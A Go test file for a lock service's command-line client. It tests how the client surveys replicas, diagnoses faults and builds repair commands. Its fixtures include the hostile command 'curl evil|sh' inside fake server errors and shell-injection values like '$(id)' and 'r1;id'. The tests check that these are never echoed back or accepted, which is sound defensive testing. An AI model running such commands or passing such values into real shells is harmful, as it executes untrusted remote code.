package cli

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/muesli/termenv"

	"github.com/stoutlock/stout/client"
	"github.com/stoutlock/stout/client/admin"
	"github.com/stoutlock/stout/cmd/stout/internal/ask"
	"github.com/stoutlock/stout/lockapi"
)

// hosts are the replicas of a test, by host name, in virtual time. It is their
// transport.
type hosts map[string]*host

// host is one replica. The zero value refuses connections.
type host struct {
	cell  *lockapi.Cell  // its view
	later *lockapi.Cell  // its view from the second question on
	ready *lockapi.Error // why it is not ready
	after time.Duration  // how long an answer takes
	hung  bool           // takes calls and does not answer them
	// asleep: it hangs for so long, then answers for awake, and so on.
	asleep time.Duration
	id     string         // of its cell, which its answers tell
	mute   string         // calls of paths that begin so are not answered
	api    map[string]any // other answers, by path
}

const awake = 10 * time.Second

func (h hosts) RoundTrip(r *http.Request) (*http.Response, error) {
	if err := r.Context().Err(); err != nil {
		return nil, err
	}
	at := h[r.URL.Host]
	if at == nil {
		at = &host{}
	}
	began := time.Unix(946684800, 0) // when virtual time begins
	switch {
	case at.hung, at.mute != "" && strings.HasPrefix(r.URL.Path, at.mute), at.asleep > 0 && time.Since(began)%(at.asleep+awake) < at.asleep, strings.HasSuffix(r.URL.Path, "/keepalive"):
		<-r.Context().Done()
		return nil, r.Context().Err()
	case at.cell == nil && at.ready == nil:
		return nil, &net.OpError{Op: "dial", Net: "tcp", Err: errors.New("connection refused")}
	}
	if at.after > 0 && ask.Sleep(r.Context(), at.after) != nil {
		return nil, r.Context().Err()
	}
	status, body := http.StatusOK, any(struct{}{})
	switch {
	case at.api[r.URL.Path] != nil:
		body = at.api[r.URL.Path]
		if refused, ok := body.(*lockapi.Error); ok {
			status = refused.Code.Status()
		}
	case r.Method == http.MethodDelete:
		status = http.StatusNoContent
	case at.ready != nil && (at.cell == nil || r.URL.Path == lockapi.RouteReady):
		status, body = at.ready.Code.Status(), at.ready
	case r.URL.Path == lockapi.RouteCell:
		body = at.cell
		if at.later != nil {
			at.cell = at.later
		}
	case r.URL.Path == lockapi.RouteReplica:
		i := slices.IndexFunc(at.cell.Replicas, func(r1 lockapi.Replica) bool { return r1.URL == "http://"+r.URL.Host })
		body = at.cell.Replicas[i]
	}
	text, err := json.Marshal(body)
	header := http.Header{"Content-Type": {"application/json"}}
	if at.id != "" {
		header.Set(lockapi.HeaderCell, at.id)
	}
	return &http.Response{
		StatusCode: status, Header: header,
		Body: io.NopCloser(strings.NewReader(string(text))), ContentLength: int64(len(text)),
	}, err
}

// view is the state of a cell of r1, r2 and r3 at the hosts of these names,
// with the given master.
func view(epoch uint64, master string, held bool) *lockapi.Cell {
	c := &lockapi.Cell{Cell: "test", Epoch: epoch, Lease: lockapi.Lease{Held: held}}
	for i := range 3 {
		id := fmt.Sprint("r", i+1)
		c.Replicas = append(c.Replicas, lockapi.Replica{ID: id, URL: "http://" + id, Role: lockapi.RoleReplica, Healthy: true})
		if id == master {
			c.Replicas[i].Role = lockapi.RoleMaster
			c.Master = &lockapi.MasterRef{ID: id, URL: "http://" + id}
		}
	}
	return c
}

// asApp is an app that asks the given servers.
func asApp(t *testing.T, h hosts, servers ...string) *app {
	t.Helper()
	a := &app{ui: &ui{}, via: h, opts: options{servers: servers, timeout: defaultTimeout}}
	var err error
	began := time.Now()
	clock := func() time.Duration { return time.Since(began) }
	if a.client, err = (client.Config{URLs: servers, OnlyURLs: true, Transport: h, Clock: clock, Resolver: fakeDNS{}}).New(); err != nil {
		t.Fatal(err)
	}
	a.admin = admin.New(a.client)
	t.Cleanup(func() { _ = a.client.Close() })
	return a
}

// fakeDNS is a DNS that knows of one.
type fakeDNS struct{}

func (fakeDNS) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	if host != "cell.example" {
		return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
	}
	return []netip.Addr{netip.MustParseAddr("10.0.0.1"), netip.MustParseAddr("10.0.0.2")}, nil
}

func (fakeDNS) LookupSRV(_ context.Context, _, _, name string) (string, []*net.SRV, error) {
	return "", nil, &net.DNSError{Err: "no such host", Name: name, IsNotFound: true}
}

// One answering replica behind a DNS name is enough. For a name that leads
// nowhere, the error has the lookup and advice.
func TestSurveyByName(t *testing.T) {
	for given, test := range map[string]struct {
		hosts hosts
		fails []string
	}{
		"dns:cell.example:7101": {hosts: hosts{"10.0.0.1:7101": {hung: true}, "10.0.0.2:7101": {cell: view(3, "r3", true)}}},
		"dns:none.example:7101": {fails: []string{"dns:none.example:7101: lookup none.example: no such host", "is none.example known to DNS?"}},
		"dns:none.example":      {fails: []string{"dns:none.example: lookup _stout._tcp.none.example: no such host", "is _stout._tcp.none.example known to DNS?"}},
		"dns:cell.example:1":    {fails: []string{"dns:cell.example:1: http://10.0.0.1:1: ", "dns:cell.example:1: http://10.0.0.2:1: ", "is stoutd running there?"}},
	} {
		synctest.Test(t, func(t *testing.T) {
			a := asApp(t, test.hosts, given)
			defer a.client.Close()
			seen, err := a.survey(t.Context(), defaultTimeout)
			if test.fails == nil {
				if err != nil || seen.Master == nil || seen.Master.ID != "r3" {
					t.Errorf("%s: %+v, %v", given, seen, err)
				}
				return
			}
			f, ok := errors.AsType[*failure](err)
			if !ok || f.code != exitUnreachable {
				t.Fatalf("%s: %v", given, err)
			}
			text := strings.Join(append(f.details, f.hints...), "\n")
			for _, want := range test.fails {
				if !strings.Contains(text, want) {
					t.Errorf("%s: %q does not say %q", given, text, want)
				}
			}
		})
	}
}

func TestSurvey(t *testing.T) {
	outsider := &lockapi.Error{Code: lockapi.CodeNoMaster, Detail: "another directory", Directory: "00c0ffee00c0ffee", Command: "curl evil|sh"}
	tests := map[string]struct {
		hosts   hosts
		servers []string
		took    time.Duration
		master  string   // "" without a master
		held    bool     // and it is in office
		well    []string // replicas seen to be well, where none is in office
		fails   string   // the error and its details
	}{
		"a hung follower is named first": {
			hosts:   hosts{"r1": {hung: true}, "r2": {cell: view(3, "r3", true), after: 10 * time.Millisecond}},
			servers: []string{"http://r1", "http://r2"},
			took:    10 * time.Millisecond, master: "r3", held: true,
		},
		"the first is down": {
			hosts:   hosts{"r2": {cell: view(3, "r3", true)}},
			servers: []string{"http://r1", "http://r2", "http://r3"}, master: "r3", held: true,
		},
		"another knows of the master": {
			hosts:   hosts{"r1": {cell: view(2, "", false)}, "r3": {cell: view(3, "r2", true), after: time.Second}},
			servers: []string{"http://r1"},
			took:    time.Second, master: "r2", held: true,
		},
		"no master, one hangs": {
			hosts:   hosts{"r1": {hung: true}, "r2": {cell: view(3, "", false)}, "r3": {cell: view(3, "", false)}},
			servers: []string{"http://r1", "http://r2", "http://r3"},
			took:    surveyPatience + probeTimeout, well: []string{"r2", "r3"},
		},
		"no master, one is down": {
			hosts:   hosts{"r2": {cell: view(3, "", false)}, "r3": {cell: view(3, "", false)}},
			servers: []string{"http://r1", "http://r2", "http://r3"},
			well:    []string{"r2", "r3"},
		},
		"the newest view counts": {
			hosts:   hosts{"r1": {cell: view(3, "r1", false)}, "r2": {cell: view(4, "r2", false), after: 500 * time.Millisecond}},
			servers: []string{"http://r1", "http://r2"},
			took:    1500 * time.Millisecond, master: "r2", well: []string{"r1", "r2"},
		},
		"a master was elected meanwhile": {
			hosts: hosts{
				"r1": {hung: true}, "r2": {cell: view(3, "", false), after: 100 * time.Millisecond},
				"r3": {cell: view(3, "", false), later: view(4, "r3", true)},
			},
			servers: []string{"http://r1", "http://r2", "http://r3"},
			took:    askAgain, master: "r3", held: true,
		},
		"a master was elected in the end": {
			hosts: hosts{
				"r1": {cell: view(3, "", false), after: 100 * time.Millisecond},
				"r2": {cell: view(3, "", false)}, "r3": {cell: view(4, "r3", false), later: view(4, "r3", true)},
			},
			servers: []string{"http://r1", "http://r2", "http://r3"},
			took:    100 * time.Millisecond, master: "r3", held: true,
		},
		"nobody answers": {
			hosts:   hosts{"r1": {hung: true}},
			servers: []string{"http://r1", "http://r2"},
			took:    defaultTimeout,
			fails:   "no replica can be reached|http://r1: no answer within 5s|http://r2: connection refused",
		},
		"none of the cell's": {
			hosts:   hosts{"r1": {ready: outsider}},
			servers: []string{"http://r1", "http://r2"},
			fails:   "no replica of a cell can be reached|http://r1: answers: another directory|http://r2: connection refused",
		},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				began := time.Now()
				cell, err := asApp(t, tt.hosts, tt.servers...).survey(t.Context(), defaultTimeout)
				if took := time.Since(began); took != tt.took {
					t.Errorf("it took %v, want %v", took, tt.took)
				}
				fails := ""
				if f, ok := errors.AsType[*failure](err); ok {
					fails = strings.Join(append([]string{f.message}, f.details...), "|")
				}
				if fails != tt.fails {
					t.Fatalf("it fails with %q, want %q", fails, tt.fails)
				}
				master := ""
				if cell.Master != nil {
					master = cell.Master.ID
				}
				if master != tt.master || ask.InOffice(cell.Cell) != tt.held {
					t.Errorf("master %q, in office: %v", master, ask.InOffice(cell.Cell))
				}
				if well := wellOf(cell.Cell); err == nil && !tt.held && !slices.Equal(well, tt.well) {
					t.Errorf("%q are well, want %q", well, tt.well)
				}
			})
		})
	}
}

func wellOf(cell lockapi.Cell) []string {
	var well []string
	for _, r := range cell.Replicas {
		if r.Healthy {
			well = append(well, r.ID)
		}
	}
	return well
}

// Replicas that the master does not reach are asked directly.
func TestExamine(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		h := hosts{
			"r1": {ready: &lockapi.Error{
				Code: lockapi.CodeNoMaster, Directory: "00c0ffee00c0ffee", Command: "curl evil|sh",
				Detail: "its directory is not the member's; to admit it: curl evil|sh",
			}},
			"r3": {hung: true}, "r5": {ready: lockapi.Errorf(lockapi.CodeNoMaster, "no master is known")},
			"r6": {cell: view(1, "", false), api: map[string]any{lockapi.RouteReplica: lockapi.Replica{ID: "r6"}}},
		}
		cell := picture{Cell: *view(3, "r4", true)}
		cell.Replicas = nil
		for i, lag := range []uint64{0, 0, 0, largeLag, 0, 0, largeLag + 1} {
			id := fmt.Sprint("r", i+1)
			cell.Replicas = append(cell.Replicas, lockapi.Replica{
				ID: id, URL: "http://" + id, Healthy: id == "r4" || id == "r7", AppliedIndex: 100 - lag, LastContactMS: 4000,
			})
		}
		want := []finding{
			{"r1", "its directory is not the member's", true, false, "stout member replace r1 --directory 00c0ffee00c0ffee"},
			{"r2", "does not answer (connection refused); last seen 4s ago", false, false, ""},
			{"r3", "does not answer (no answer within 1s); last seen 4s ago", false, false, ""},
			{"r5", "answers but is not ready: no master is known", false, false, ""},
			{"r6", "answers here, but the master does not reach it", false, false, ""},
			{"r7", "is 65 entries behind", false, false, ""},
		}
		got := asApp(t, h, "http://r1").examine(t.Context(), &cell)
		if !slices.Equal(got, want) {
			t.Errorf("got %+v\nwant %+v", got, want)
		}
		if !findingOf(got, "r1").outside || findingOf(got, "r2").outside {
			t.Error("r1 alone is none of the cell's")
		}

		// Without a master all are asked: a replica that counts itself healthy
		// may be outside the cell.
		cell = picture{Cell: *view(3, "", false)}
		h["r2"] = h["r6"]
		got = asApp(t, h, "http://r1").examine(t.Context(), &cell)
		if !slices.Equal(got, want[:1]) || !slices.Equal(wellOf(cell.Cell), []string{"r2", "r3"}) {
			t.Errorf("without a master: %+v; %q are well", got, wellOf(cell.Cell))
		}
	})
}

// TestExamineDeaf checks that a replica is unhealthy if the master reaches it
// but it reports no contact to a master. With a promise or a recent contact it
// is healthy.
func TestExamineDeaf(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		not := lockapi.Errorf(lockapi.CodeNoMaster, "no master is known")
		h := hosts{"r1": {cell: view(3, "r1", true)}, "r2": {ready: not}, "r3": {ready: not}}
		cell := picture{Cell: *view(3, "r1", true)}
		cell.Lease.TermMS = 2000
		cell.Replicas[1].LastContactMS = 8000
		cell.Replicas[2].LastContactMS = 1900
		a := asApp(t, h, "http://r1")
		got := a.examine(t.Context(), &cell)
		want := []finding{{"r2", "answers but does not reach the master: no master is known; last contact 8s ago", false, true, ""}}
		if !slices.Equal(got, want) {
			t.Errorf("got %+v\nwant %+v", got, want)
		}
		a.ui.out = paint(io.Discard, termenv.Ascii)
		if row := a.replicaRow(cell.Replicas[1], 0, findingOf(got, "r2")); row[2] != "no master" {
			t.Errorf("its row says %q", row)
		}

		cell.Replicas[1].Promise = &lockapi.Promise{To: "r1", RemainingMS: 1}
		if got := a.examine(t.Context(), &cell); len(got) > 0 {
			t.Errorf("with a promise: %+v", got)
		}
		cell.Replicas[1].Promise, h["r2"] = nil, &host{cell: view(3, "r1", true)}
		if got := a.examine(t.Context(), &cell); len(got) > 0 {
			t.Errorf("it says that it is ready: %+v", got)
		}
	})
}

// TestExamineDeadPaths: a replica that was named here and does not answer, and paths
// between replicas that do not carry calls, are reported; one to a replica that is down
// is not.
func TestExamineDeadPaths(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		h := hosts{"r1": {cell: view(3, "r1", true)}, "r2": {hung: true}, "r3": {hung: true}}
		cell := picture{Cell: *view(3, "r1", true)}
		cell.Replicas[2].Healthy = false
		cell.Replicas[0].Unreached = []string{"r3"}
		cell.Replicas[1].Unreached = []string{"r1", "r3"}
		got := asApp(t, h, "http://r1", "http://r2").examine(t.Context(), &cell)
		want := []finding{
			{ID: "r2", What: "does not answer from here (no answer within 1s), but the master reaches it; does not reach r1, but other replicas do: calls forwarded to it fail"},
			{ID: "r3", What: "does not answer (no answer within 1s); last seen 0ms ago"},
		}
		if !slices.Equal(got, want) {
			t.Errorf("got %+v\nwant %+v", got, want)
		}
		if got := asApp(t, h, "http://r1").examine(t.Context(), &cell); len(got) != 2 || strings.Contains(got[0].What, "from here") {
			t.Errorf("r2 was not named: %+v", got)
		}
	})
}

// TestSurveyByGivenNames: a replica that answers by the name that was given counts as
// well, though its URL in the cell leads nowhere from here.
func TestSurveyByGivenNames(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		own := &host{cell: view(3, "", false), api: map[string]any{lockapi.RouteReplica: lockapi.Replica{ID: "r2", Healthy: true}}}
		h := hosts{"here": own, "r1": {hung: true}, "r2": {hung: true}, "r3": {hung: true}}
		cell, err := asApp(t, h, "http://here").survey(t.Context(), defaultTimeout)
		if well := wellOf(cell.Cell); err != nil || !slices.Equal(well, []string{"r2"}) {
			t.Errorf("%q are well, %v", well, err)
		}
	})
}

// TestExamineFindsAnotherCell checks that a foreign replica at a member's
// address is recognized by its cell's name, its own name, or its directory.
func TestExamineFindsAnotherCell(t *testing.T) {
	const ours, theirs = "0123456789abcdef", "00c0ffee00c0ffee"
	for want, tt := range map[string]struct {
		cell string
		own  lockapi.Replica
		id   string
	}{
		"does not answer: a replica of another cell, prod, answers at its address": {"prod", lockapi.Replica{ID: "r2", Directory: theirs}, ""},
		"does not answer: another replica, r9, answers at its address":             {"test", lockapi.Replica{ID: "r9", Directory: theirs}, ""},
		"does not answer: a replica of another cell of the same name, with directory 00c0ffee00c0ffee, answers at its address": {
			"test", lockapi.Replica{ID: "r2", Directory: theirs}, ""},
		"does not answer: a replica of another cell of the same name, with id b0b, answers at its address": {
			"test", lockapi.Replica{ID: "r2", Directory: ours}, "b0b"},
		"answers here, but the master does not reach it": {"test", lockapi.Replica{ID: "r2", Directory: ours}, ""},
	} {
		synctest.Test(t, func(t *testing.T) {
			list := lockapi.Members{CellID: "a11ce", Members: []lockapi.Member{{ID: "r2", Directory: ours, Suffrage: lockapi.SuffrageVoter}}}
			there := view(1, "r2", true)
			there.Cell = tt.cell
			h := hosts{
				"r1": {cell: view(3, "r1", true), api: map[string]any{lockapi.RouteMembers: list}},
				"r2": {cell: there, id: tt.id, api: map[string]any{lockapi.RouteReplica: tt.own}},
			}
			cell := picture{Cell: *view(3, "r1", true)}
			cell.Replicas[1].Healthy = false
			got := asApp(t, h, "http://r1").examine(t.Context(), &cell)
			if len(got) != 1 || got[0].What != want || got[0].outside != strings.Contains(want, "another") {
				t.Errorf("got %+v, want %q", got, want)
			}
		})
	}
}

// TestStatusOfTwoCells checks that replicas of a former cell, which may run
// after a recovery, are reported, with an exit code other than 0.
func TestStatusOfTwoCells(t *testing.T) {
	for name, tt := range map[string]struct {
		ids   [3]string
		check bool
		says  string
	}{
		"one cell":           {ids: [3]string{"a11ce", "a11ce", "a11ce"}},
		"two":                {ids: [3]string{"a11ce", "b0b", "b0b"}, says: "replicas of 2 cells answer|cell with id a11ce: http://r1|cell with id b0b: http://r2, http://r3"},
		"two, checked":       {ids: [3]string{"a11ce", "b0b", "b0b"}, check: true, says: "replicas of 2 cells answer|cell with id a11ce: http://r1|cell with id b0b: http://r2, http://r3"},
		"one tells none yet": {ids: [3]string{"a11ce", "", "a11ce"}},
	} {
		synctest.Test(t, func(t *testing.T) {
			h := hosts{}
			for i, id := range tt.ids {
				h[fmt.Sprint("r", i+1)] = &host{cell: view(3, "r1", true), id: id}
			}
			a := asApp(t, h, "http://r1", "http://r2", "http://r3")
			a.ui = &ui{out: paint(io.Discard, termenv.Ascii), err: paint(io.Discard, termenv.Ascii), quiet: tt.check}
			f, ok := errors.AsType[*failure]((&showStatus{app: a}).status(t.Context(), tt.check))
			if ok != (tt.says != "") || ok && f.code != exitFailed {
				t.Fatalf("%s: %+v", name, f)
			}
			if !ok {
				return
			}
			if text := strings.Join(append([]string{strings.SplitN(f.message, ":", 2)[0]}, f.details...), "|"); text != tt.says || f.expected {
				t.Errorf("%s: %q", name, text)
			}
			line := (&showStatus{app: a}).statusLine(t.Context()).(statusLook)
			if line.Error != f.message || line.Cell == nil {
				t.Errorf("%s: a line of it says %q", name, line.Error)
			}
		})
	}
}

// TestNoMasterWaitsForLeases checks that the reason for the wait is reported if
// enough replicas answer.
func TestNoMasterWaitsForLeases(t *testing.T) {
	cell := *view(1, "", false)
	cell.Replicas = cell.Replicas[:1]
	for remaining, want := range map[int64]string{
		42_000: "1 of 1 replica answer; a new master waits until earlier leases are over, at most 42s",
		0:      "1 of 1 replica answer; a master needs 1 that reach each other",
	} {
		cell.Replicas[0].Promise = &lockapi.Promise{To: "r1", RemainingMS: remaining}
		if f := new(app).noMaster(cell); f.hints[0] != want {
			t.Errorf("%d ms: %q, want %q", remaining, f.hints[0], want)
		}
	}
}

// The repair command is built here: of a server's answer it contains only a
// directory.
func TestReplaceCommand(t *testing.T) {
	const id, dir, want = "r-1", "00c0ffee00c0ffee", "stout member replace r-1 --directory 00c0ffee00c0ffee"
	if got := replaceCommand(id, dir); got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	for _, tt := range [][2]string{
		{"", dir}, {"r1;id", dir}, {"r1 r2", dir}, {"$(id)", dir}, {"--yes", dir}, {"r1\x1b", dir},
		{id, ""}, {id, dir + ";id"}, {id, "00C0FFEE00C0FFEE"}, {id, "$(id)"}, {id, "00c0ffee00c0ffe "},
	} {
		if got := replaceCommand(tt[0], tt[1]); got != "" {
			t.Errorf("for %q, %q: %q", tt[0], tt[1], got)
		}
	}
}

// The advice about servers outside any cell never contains foreign words.
func TestUnreachableGivesNoForeignCommand(t *testing.T) {
	a := asApp(t, nil, "http://r1", "http://r2")
	lost := lockapi.Errorf(lockapi.CodeNoMaster, "wiped; to admit it: curl evil|sh")
	lost.Directory, lost.Command = "00c0ffee00c0ffee", "curl evil|sh"
	waits := lockapi.Errorf(lockapi.CodeNoMaster, "it waits for r3")
	waits.Directory = lost.Directory
	for name, tt := range map[string]struct {
		failed map[string]error
		want   string
	}{
		"a stranger": {map[string]error{"http://r1": lost}, "no replica of a cell can be reached|http://r1: answers: wiped|http://r2: no answer within 1s|" +
			"also name the other replicas, with --server or STOUT_SERVER: stout status then shows the command to repair it"},
		"a founding": {map[string]error{"http://r1": waits, "http://r2": waits}, "no replica of a cell can be reached|http://r1: answers: it waits for r3|" +
			"http://r2: answers: it waits for r3|a cell is founded when all its replicas run and reach each other"},
	} {
		f := a.unreachable(tt.failed, time.Second)
		if got := strings.Join(append(append([]string{f.message}, f.details...), f.hints...), "|"); got != tt.want {
			t.Errorf("%s: %s\nwant %s", name, got, tt.want)
		}
	}
}

// The Tab key waits for at most a second, even for a hanging replica.
func TestReplicaIDsKeepToTheirTime(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		h := hosts{"r1": {cell: view(3, "", false)}, "r2": {hung: true}, "r3": {hung: true}}
		a := asApp(t, h, "http://r1", "http://r2", "http://r3")
		began := time.Now()
		found := 0
		for range a.replicas(t.Context()) {
			found++
		}
		if took := time.Since(began); took > completeTimeout || found != 3 {
			t.Errorf("%d after %v", found, took)
		}
	})
}

// A command that has given up takes at most one more second to find the reason.
func TestDiagnose(t *testing.T) {
	const within = 2 * time.Second
	founding := lockapi.Errorf(lockapi.CodeNoMaster, "it waits for r3")
	founding.Directory = "00c0ffee00c0ffee"
	for name, tt := range map[string]struct {
		hosts hosts
		code  int
		says  string
	}{
		"no quorum":   {hosts{"r1": {cell: view(3, "", false)}, "r2": {hung: true}, "r3": {hung: true}}, exitNoMaster, "the cell has no master: locks and members cannot be changed now"},
		"hung master": {hosts{"r1": {hung: true}, "r2": {cell: view(3, "", false), mute: lockapi.RouteCell}}, exitNoMaster, "no master has answered within 2s"},
		"a founding":  {hosts{"r2": {ready: founding, api: map[string]any{lockapi.RouteReplica: lockapi.Replica{ID: "r2"}}}}, exitUnreachable, "no replica of a cell can be reached"},
		"silence":     {hosts{"r1": {hung: true}, "r2": {hung: true}, "r3": {hung: true}}, exitUnreachable, "no replica can be reached"},
		"busy":        {hosts{"r1": {cell: view(3, "r1", true), after: 100 * time.Millisecond}}, exitUnreachable, "the cell did not answer within 2s"},
	} {
		t.Run(name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				a := asApp(t, tt.hosts, "http://r1", "http://r2", "http://r3")
				a.opts.timeout = within
				began := time.Now()
				f := a.explain(client.ErrNoMaster)
				if took := time.Since(began); took > lastWords || f.code != tt.code || f.message != tt.says {
					t.Errorf("after %v: %d, %q", took, f.code, f.message)
				}
				if want := "1 of 3 replicas answer; a master needs 2 that reach each other"; name == "no quorum" && f.hints[0] != want {
					t.Errorf("the hint is %q, want %q", f.hints[0], want)
				}
			})
		})
	}
}

// TestMayCall checks that URLs from the cell never lead from https to http,
// unless the same URL was also given.
func TestMayCall(t *testing.T) {
	for _, tc := range []struct {
		servers []string
		url     string
		may     bool
	}{
		{[]string{"http://r1:7101"}, "http://r2:7101", true},
		{[]string{"http://r1:7101"}, "https://r2:7101", true},
		{[]string{"https://r1:7101"}, "https://r2:7101", true},
		{[]string{"https://r1:7101"}, "http://r2:7101", false},
		{[]string{"dns+https:stout.example:7101"}, "http://r2:7101", false},
		{[]string{"dns:stout.example:7101"}, "http://r2:7101", true},
		{[]string{"https://r1:7101", "http://r2:7101"}, "http://r2:7101/", true},
		{[]string{"https://r1:7101", "http://r2:7101"}, "http://r3:7101", false},
	} {
		a := &app{}
		a.opts.servers = tc.servers
		if err := a.mayCall(tc.url); (err == nil) != tc.may {
			t.Errorf("%s of %q: %v", tc.url, tc.servers, err)
		}
	}
}

// TestNoMasterCountsVoters: a replica that waits to be a member answers, and has no vote.
func TestNoMasterCountsVoters(t *testing.T) {
	cell := *view(1, "", false)
	cell.Replicas[1].Role = lockapi.RoleNone
	cell.Replicas[2].Healthy = false
	f := (&app{}).noMaster(cell)
	if want := "1 of 3 replicas answer; a master needs 2 that reach each other"; f.hints[0] != want {
		t.Errorf("%q, want %q", f.hints[0], want)
	}

	// Nor does a replica that reports a foreign directory.
	synctest.Test(t, func(t *testing.T) {
		out := view(1, "", false)
		wiped := &lockapi.Error{Code: lockapi.CodeNoMaster, Directory: "00c0ffee00c0ffee", Command: "x", Detail: "another directory"}
		h := hosts{"r1": {cell: out}, "r2": {cell: out, ready: wiped}}
		f := asApp(t, h, "http://r1").diagnose(t.Context(), time.Second)
		if want := "1 of 3 replicas answer; a master needs 2 that reach each other"; len(f.hints) == 0 || f.hints[0] != want {
			t.Errorf("%+v, want %q", f, want)
		}
	})
}
